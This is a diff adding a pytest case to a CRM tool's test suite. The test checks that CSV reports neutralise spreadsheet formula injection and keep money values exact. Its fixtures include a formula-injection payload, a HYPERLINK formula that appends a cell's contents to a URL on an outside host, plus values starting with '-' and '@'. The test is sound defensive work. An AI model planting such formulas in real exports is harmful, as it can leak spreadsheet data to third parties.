@@ -124,6 +124,37 @@ def test_a_report_prints_a_table_json_and_csv(crm_ops: Call, connected: sa.Engin
     assert total["rows"] == [{"leads": counted(connected, "true")}]
 
 
+def test_a_csv_holds_money_to_the_last_digit_and_nothing_that_a_spreadsheet_would_run(
+    crm_ops: Call, connected: sa.Engine
+) -> None:
+    formula = '=HYPERLINK("http://example.org/?"&A1)'
+    with database.transaction(connected) as connection:
+        sql.run(
+            connection,
+            "INSERT INTO crm.lead (company_id, name, source) VALUES (1, 'x', %(text)s),"
+            " (1, 'y', '-1+1'), (1, 'z', 'a=b')",
+            text=formula,
+        )
+        sql.run(
+            connection,
+            "INSERT INTO crm.deal (company_id, name, stage, amount, currency)"
+            " VALUES (1, 'refund', '@home', -1234567890123.10, 'EUR')",
+        )
+
+    def read(*asked: object) -> list[dict[str, str]]:
+        printed = crm_ops("report", *asked, "--tenant", 1, "--csv").out
+        return list(csv.DictReader(io.StringIO(printed)))
+
+    leads = {row["source"]: row["leads"] for row in read("leads_by_source")}
+    assert {f"'{formula}": "1", "'-1+1": "1", "a=b": "1"}.items() <= leads.items()
+    (refund,) = read("deals_by_stage", "--filter", "stage=@home")
+    assert (refund["stage"], refund["revenue"]) == ("'@home", "-1234567890123.10")
+    asked = ("report", "deals_by_stage", "--tenant", 1, "--filter", "stage=@home", "--json")
+    (line,) = crm_ops(*asked).data["rows"]
+    assert (line["stage"], line["currency"]) == ("@home", "EUR")
+    assert line["revenue"] == line["smallest"] == "-1234567890123.10"
+
+
 def test_the_indexes_of_searches_are_printed_and_can_be_run_twice(
     crm_ops: Call, connected: sa.Engine
 ) -> None:
